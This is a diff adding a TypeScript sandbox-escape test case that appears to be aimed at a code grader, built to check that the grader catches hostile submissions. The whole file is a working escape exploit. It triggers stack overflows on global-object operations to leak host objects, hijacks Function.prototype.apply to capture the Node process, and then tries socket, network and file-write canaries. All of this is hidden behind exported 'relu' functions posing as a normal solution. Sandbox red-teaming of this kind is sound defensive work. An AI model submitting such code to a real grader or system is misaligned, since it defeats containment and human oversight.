@@ -1,0 +1,19 @@
+// 98-overflow-global [escape]
+// Tries: overflow while Node looks up, defines, lists and describes properties of the global
+// A correct grader must report: wrong or forbidden or crash. No host object, no socket, no connection.
+let H: any = null; let proc: any = null; let st = '';
+const root = (x: any) => { let r = x; for (let p = x; p !== null; p = Object.getPrototypeOf(p)) r = p; return r; };
+const foreign = (x: any) => ((typeof x === 'object' && x !== null) || typeof x === 'function') && root(x) !== Object.prototype && root(x) !== x;
+const take = (x: any) => { if (H === null && foreign(x)) H = x; };
+const pwn = () => { if (!proc || st) return; st = 'PROCESS '; const t = (f: () => any) => { try { f(); } catch (e) { st += e; } };
+  t(() => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', () => {}); s.listen('/tmp/pravah-canary/pwned-98.sock'); });
+  t(() => { const s = proc.getBuiltinModule('node:net').connect(18999, '127.0.0.1'); s.on('error', () => {}); });
+  t(() => proc.getBuiltinModule('node:fs').writeFileSync('/tmp/pravah-canary/pwned-98', 'x')); };
+const climb = () => { if (!H) return; try { let F: any = H; while (F && typeof F !== 'function') F = F.constructor; let FP = F; while (Object.getPrototypeOf(FP) !== root(FP)) FP = Object.getPrototypeOf(FP);
+  const apply = FP.apply; FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; pwn(); } return Reflect.apply(this, self, args ?? []); }; Promise.reject(1); } catch (e) { st += 'climb ' + e; } };
+const g: any = globalThis; let i = 0;
+const doors = [() => g['a' + i], () => { g['b' + (i & 63)] = {}; }, () => Object.defineProperty(g, 'c' + (i & 63), { get: () => ({}), configurable: true }), () => Object.getOwnPropertyDescriptor(g, 'c1'), () => Reflect.ownKeys(g).length, () => delete g['b1'], () => Object.getOwnPropertyDescriptor(g, 'Array'), () => Reflect.setPrototypeOf(g, null)];
+for (const door of doors) { i = 0; const rec = (): void => { try { rec(); } catch (e) { take(e); if (i++ >= 400) return; try { take(door()); } catch (x) { take(x); } throw e; } }; rec(); }
+climb();
+export function relu(_x: number[]): number[] { climb(); throw new Error('H=' + (H !== null) + ' ' + st); }
+export function reluBackward(_d: number[], _x: number[]): number[] { pwn(); throw new Error('H=' + (H !== null) + ' ' + st); }
